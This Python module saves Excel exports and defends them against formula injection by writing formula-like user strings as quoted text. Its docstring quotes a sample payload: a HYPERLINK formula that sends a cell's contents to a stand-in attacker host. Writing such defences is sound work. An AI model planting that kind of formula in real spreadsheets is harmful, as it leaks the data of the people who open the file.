"""Excel files the project writes: user text stays text.

openpyxl stores a string that starts with «=» as a formula, and Excel runs a cell that starts
with «=», «+», «-» or «@» as one as soon as somebody edits it: a school that names itself
``=HYPERLINK("http://evil.example/?"&A1;"Открыть")`` would plant a live link in the
coordinator's export. Every export saves its workbook through :func:`workbook_bytes`, which
writes such text as a plain string with Excel's «quote prefix» (the hidden apostrophe of a
cell typed as ``'=1+1``): the text reads back unchanged, shows as typed, and stays text when
edited. Numbers, dates and booleans are left as they are; the project writes no formulas.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from datetime import date, datetime

from openpyxl.utils import get_column_letter

#: How the exports show a date and a share (a share is stored as a fraction: 0.125 → 12,5 %).
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
# What openpyxl gives a date cell unless told otherwise (ISO, as nobody in Russia writes it).
_DEFAULT_DATE_FORMATS = ("General", "yyyy-mm-dd", "yyyy-mm-dd h:mm:ss", "h:mm:ss")
PERCENT_FORMAT = "0.0%"

# What Excel (and LibreOffice) take for the start of a formula; tab and carriage return
# hide one from a reader of the cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    """«=1+1», «+7 913…», «-2», «@SUM(A1)», «\\t=cmd» → True; «1+1», 5, None → False."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell):
    """Make ``cell`` hold its string as text, never as a formula; other values pass."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def finish_table(
    sheet, header_row: int, *, last_column: int | None = None, percent: Iterable[int] = ()
) -> None:
    """The table of ``sheet`` under its header at ``header_row``: an autofilter over it, and the
    columns numbered in ``percent`` (from 1) shown as per cent (the values stay fractions, so a
    re-import reads what was exported)."""
    last_column = last_column or sheet.max_column
    last_row = max(sheet.max_row, header_row)
    sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(last_column)}{last_row}"
    for column in percent:
        for (cell,) in sheet.iter_rows(
            min_row=header_row + 1, max_row=last_row, min_col=column, max_col=column
        ):
            if isinstance(cell.value, int | float):
                cell.number_format = PERCENT_FORMAT


def workbook_bytes(book) -> bytes:
    """The .xlsx file of ``book`` with every formula-like string written as text and every
    date shown as a date («13.03.2023», a real date Excel sorts and filters by)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                as_text(cell)
                if isinstance(cell.value, date) and cell.number_format in _DEFAULT_DATE_FORMATS:
                    timed = isinstance(cell.value, datetime)
                    cell.number_format = DATETIME_FORMAT if timed else DATE_FORMAT
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
